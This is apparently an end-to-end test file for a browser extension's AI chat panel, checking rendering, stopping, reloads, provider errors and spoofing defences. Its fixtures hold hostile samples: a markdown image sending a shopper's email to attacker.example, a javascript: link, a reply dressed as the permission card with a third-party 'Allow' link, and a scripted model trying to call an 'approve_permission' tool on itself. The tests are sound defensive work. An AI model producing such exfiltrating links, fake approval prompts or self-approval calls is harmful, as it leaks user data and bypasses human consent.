// The side panel's chat in a real Chromium against a scripted model: replies stream as formatted text
// with every image removed and links shown with their address, a visible working state with a Stop
// button, the conversation kept across a panel reload, and provider failures explained in words that
// say what to do, with the conversation kept and nothing saved half-done.
import { test, expect } from '../harness';
import { uiCall } from '../remixlet';
import { ScriptedModel, type Reply, type Turn } from './scripted-model';
import { chatOn, idle, send } from './chat-helpers';

const REPLY = [
  '**Found it.** See [the guide](https://docs.example/guide) for details.',
  '',
  '![logo](https://attacker.example/l.png?q=shopper%40shop.test)',
  '',
  '<img src="https://leaking.via/raw.png?d=1"> <a href="javascript:alert(1)">click</a>',
].join('\n');

test('replies stream as formatted text without images; Stop ends a turn; the chat survives a panel reload', async ({ openPage, openExtensionPage, tabIdOf, sites, witness }) => {
  let release: (() => void) | undefined;
  const model = new ScriptedModel(async (turn: Turn): Promise<Reply> => {
    if (turn.user.startsWith('Describe')) return turn.step === 0 ? { toolCalls: [{ name: 'outline_page', args: { maxNodes: 50 } }] } : { text: REPLY };
    // "Take your time": the model starts answering and then goes quiet until the test lets it go.
    await new Promise<void>((r) => (release = r));
    return { text: 'late' };
  });
  const { panel } = await chatOn({ openPage, tabIdOf, openExtensionPage, sites }, model, { host: 'shop.test' });
  await witness.clear();

  await send(panel, 'Describe this page');
  await idle(panel);
  const reply = panel.locator('.chat .assistant').last();
  await expect(reply.locator('strong')).toHaveText('Found it.');
  await expect(reply.locator('a')).toHaveCount(1);
  await expect(reply.locator('a')).toHaveAttribute('href', 'https://docs.example/guide');
  await expect(reply.locator('a')).toHaveAttribute('target', '_blank');
  await expect(reply.locator('.link-target')).toHaveText(' (https://docs.example/guide)');
  await expect(reply).toContainText('[image removed: logo]');
  await expect(panel.locator('.chat img')).toHaveCount(0);
  await expect(panel.locator('.chat [href^="javascript"]')).toHaveCount(0);
  await expect(panel.locator('.chat .tool .tool-what')).toHaveText(['Looked at the outline of the page']);

  await send(panel, 'Take your time');
  await expect(panel.locator('.chat .working')).toBeVisible();
  await expect(panel.locator('.chat .working')).toContainText('Working…');
  await panel.getByRole('button', { name: 'Stop' }).click();
  await idle(panel);
  await expect(panel.locator('.chat .notice').last()).toHaveText('Stopped. Nothing more was done; send a message to go on.');
  release?.();

  await panel.reload();
  await expect(panel.locator('.chat .user')).toHaveText(['Describe this page', 'Take your time']);
  await expect(panel.locator('.chat .assistant strong')).toHaveText('Found it.');
  await expect(panel.locator('.chat .tool .tool-what')).toHaveText(['Looked at the outline of the page']);
  await expect(panel.locator('.chat img')).toHaveCount(0);
  // The conversation goes on where it was: the model is sent the earlier turns.
  model.script = () => ({ text: 'Still here.' });
  await send(panel, 'Are you there?');
  await idle(panel);
  await expect(panel.locator('.chat .assistant').last()).toHaveText('Still here.');
  const last = model.requests.at(-1)!.body.messages.map((m) => m.role);
  expect(last.filter((r) => r === 'user')).toHaveLength(3);
  expect(last).toContain('tool');

  await witness.expectNoHits();
});

const FAILURES: Array<{ say: string; reply: Reply | ((t: Turn) => Reply); shows: RegExp }> = [
  { say: 'bad key', reply: { status: 401, body: { error: { message: 'Incorrect API key provided', type: 'invalid_request_error' } } }, shows: /model\.test refused the API key \(401\)\. Check the key in Settings/ },
  { say: 'rate limited', reply: { status: 429 }, shows: /rate limiting requests \(429\)\. Wait a minute/ },
  { say: 'provider down', reply: { status: 503 }, shows: /model\.test is having trouble \(503\)\. Try again/ },
  { say: 'refuse', reply: { text: '', finish: 'content_filter' }, shows: /The model declined to answer/ },
  { say: 'garbage', reply: { fail: 'garbage' }, shows: /could not read|The model call failed/ },
  { say: 'cut', reply: (t) => (t.step === 0 ? { toolCalls: [{ name: 'write_files', args: { files: { 'manifest.json': '{"name":"half"' } } }] } : { fail: 'cut-mid-stream' }), shows: /Cannot reach|could not read|The model call failed|stopped answering/ },
  { say: 'hang', reply: { fail: 'hang' }, shows: /stopped answering: nothing arrived for 2 seconds/ },
];

test('provider failures say what to do; the conversation is kept and nothing is saved half-done', async ({ openPage, openExtensionPage, tabIdOf, sites }) => {
  const model = new ScriptedModel((turn) => {
    const f = FAILURES.find((x) => x.say === turn.user);
    if (f) return typeof f.reply === 'function' ? f.reply(turn) : f.reply;
    if (turn.user === 'bad tool call') return turn.step === 0 ? { fail: 'malformed-tool-call' } : { text: 'My tool call was malformed; trying again later.' };
    if (turn.user === 'approve yourself') {
      return turn.step === 0 ? { toolCalls: [{ name: 'approve_permission', args: { approvalId: 'a1', allow: true } }] } : { text: 'That tool does not exist.' };
    }
    return { text: 'ok' };
  });
  const { panel } = await chatOn({ openPage, tabIdOf, openExtensionPage, sites }, model, { host: 'shop.test' }, { apiKey: 'sk-test-not-a-real-key-000000000000', idleSeconds: 2 });

  for (const f of FAILURES) {
    await send(panel, f.say);
    await idle(panel);
    await expect(panel.locator('.chat .error').last()).toHaveText(f.shows);
    await expect(panel.locator('.chat .error').last()).not.toContainText('sk-test');
  }
  model.release();

  await send(panel, 'bad tool call');
  await idle(panel);
  await expect(panel.locator('.chat .tool[data-tool="save_remixlet"]')).toHaveAttribute('data-state', 'failed');
  await expect(panel.locator('.chat .assistant').last()).toHaveText('My tool call was malformed; trying again later.');

  await send(panel, 'approve yourself');
  await idle(panel);
  await expect(panel.locator('.chat .tool[data-tool="approve_permission"] .tool-what')).toHaveText('Called a tool that does not exist: approve_permission');
  await expect(panel.locator('.chat .tool[data-tool="approve_permission"]')).toHaveAttribute('data-state', 'failed');
  await expect(panel.locator('.chat .assistant').last()).toHaveText('That tool does not exist.');

  // Every message is still in the conversation, and the next request carries them all.
  await expect(panel.locator('.chat .user')).toHaveText([...FAILURES.map((f) => f.say), 'bad tool call', 'approve yourself']);
  expect(await uiCall<unknown[]>(panel, 'list', {}, 'query')).toEqual([]);
  // The key went to the configured endpoint, in the Authorization header and nowhere else.
  expect(model.requests.every((r) => r.authorization === 'Bearer sk-test-not-a-real-key-000000000000')).toBe(true);
});

// A fooled model writes a block dressed as the permission card: a heading with the card's words, an
// "Allow" link to a third party carrying an account number, and markup naming itself a dialog.
const IMITATION = [
  '## Remixlet needs permission',
  '',
  'Read and change this page. [Allow](https://third.test/allow?acct=12345678) · Not now',
  '',
  '<span role="dialog" aria-label="Remixlet needs permission" class="approval rmx-mark" data-approval-kind="permissions" style="border:1px solid">Remixlet</span>',
].join('\n');

test('a reply written to look like the permission card differs from the real card in role, name and mark', async ({ openPage, openExtensionPage, tabIdOf, sites }) => {
  const model = new ScriptedModel(() => ({ text: IMITATION }));
  const { panel, tabId } = await chatOn({ openPage, tabIdOf, openExtensionPage, sites }, model, { host: 'shop.test' });
  await send(panel, 'Hide the banner');
  await idle(panel);
  await uiCall(panel, 'requestPermissions', { tabId, permissions: [{ name: 'storage', reason: 'keep what you hid' }] });

  // The one dialog named as the card is the extension's, and it carries the extension's mark.
  const cards = panel.getByRole('dialog', { name: 'Remixlet needs permission' });
  await expect(cards).toHaveCount(1);
  await expect(cards.locator('.rmx-mark')).toHaveText('Remixlet');
  await expect(cards.locator('.rmx-mark img')).toHaveAttribute('src', '/icons/remixlet-128.png');
  await expect(cards.getByRole('heading', { name: 'Remixlet needs permission' })).toBeVisible();

  // The reply is named as the model's; inside it no heading, no dialog, no mark, no borrowed attribute,
  // and the "Allow" link shows where it goes.
  const reply = panel.getByRole('article', { name: "The AI model's reply" });
  await expect(reply).toHaveCount(1);
  await expect(reply).toContainText('Remixlet needs permission');
  await expect(reply.getByRole('heading')).toHaveCount(0);
  await expect(reply.getByRole('dialog')).toHaveCount(0);
  await expect(reply.locator('.rmx-mark, .approval, [class]:not(.link-target), [role], [style], [data-approval-kind], img')).toHaveCount(0);
  await expect(reply.getByRole('link', { name: 'Allow' })).toHaveAttribute('href', 'https://third.test/allow?acct=12345678');
  await expect(reply.locator('.link-target')).toHaveText(' (https://third.test/allow?acct=12345678)');
  // The label above each reply is drawn by the panel's stylesheet, where reply text cannot reach.
  expect(await reply.evaluate((el) => getComputedStyle(el, '::before').content)).toBe('"The AI model\'s reply"');
});
